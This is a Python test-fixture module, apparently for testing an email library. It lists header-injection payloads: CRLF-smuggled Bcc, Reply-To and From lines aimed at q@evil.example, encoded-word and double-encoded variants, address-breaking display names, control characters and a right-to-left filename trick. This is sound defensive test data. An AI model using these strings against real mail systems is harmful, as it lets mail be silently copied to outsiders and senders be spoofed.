"""Texts that try to add headers, recipients or a body to a mail, or to look like another sender."""

from __future__ import annotations

from base64 import b64encode

_INJECTED = (
    "\r\nBcc: q@evil.example",
    "\nBcc: q@evil.example",
    "\rBcc: q@evil.example",
    "\r\n\r\nAnother body",
    "\r\nFrom: Owner <owner@torah.test>",
    "\r\nContent-Type: text/html",
    "\r\nReply-To: q@evil.example",
    "\x00\x1b[31m",
    "\u2028Bcc: q@evil.example",
    "\u202egnp.exe",
)


def _quoted(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?q?" + "".join(f"={byte:02X}" for byte in text.encode()) + "?="


def _base64(text: str, charset: str = "utf-8") -> str:
    return f"=?{charset}?b?{b64encode(text.encode()).decode()}?="


# Every one is given with and without letters around it.
_ENCODED = [form(f"a{text}") for form in (_quoted, _base64) for text in _INJECTED]
_RAW = [f"a{text}" for text in _INJECTED]
_ODD = [
    "=?utf-8?q?a=0D=0ABcc:_q@evil.example?=",
    "=?UTF-8?Q?a=0d=0aBcc:_q@evil.example?=",
    "=?utf-8*en?q?a=0D=0ABcc:_q@evil.example?=",
    _quoted("a\r\nBcc: q@evil.example", "us-ascii"),
    _base64("a\r\nBcc: q@evil.example", "unknown-8bit"),
    _base64("a\r\nBcc: q@evil.example") + " " + _base64("\r\nCc: q@evil.example"),
    _base64("a\r\nBcc: q@evil.example") + _quoted("\r\nCc: q@evil.example"),
    # An encoded word within an encoded word, for a program that decodes twice.
    _base64(_base64("a\r\nBcc: q@evil.example")),
    _quoted(_base64("a\r\nBcc: q@evil.example")),
    "=?utf-7?q?+AA0ACg-Bcc:?=",
    # Not finished, empty, or of no known form.
    "=?utf-8?q?a=0D=0A",
    "=?utf-8?b?===?=",
    "=?utf-8?b?!!!!?=",
    "=?utf-8?x?a?=",
    "=??q?a=0D=0A?=",
    "=?=?=?=?=?=",
    "?==?utf-8?q?=0D=0ABcc:_q@evil.example?=",
    # Names that end the name, or begin another address.
    'a" <q@evil.example>, "b',
    "a\\",
    "a>, <q@evil.example",
    "a, q@evil.example",
    "a; b: c (d) [e] @f",
    "שלום =?utf-8?q?a=0D=0ABcc:_q@evil.example?=",
    "=?utf-8?q?a=0D=0ABcc:?= " + "שלום " * 12,
    "😀" * 40,
    "a" * 100,
]
HOSTILE = [*_ENCODED, *_RAW, *_ODD]
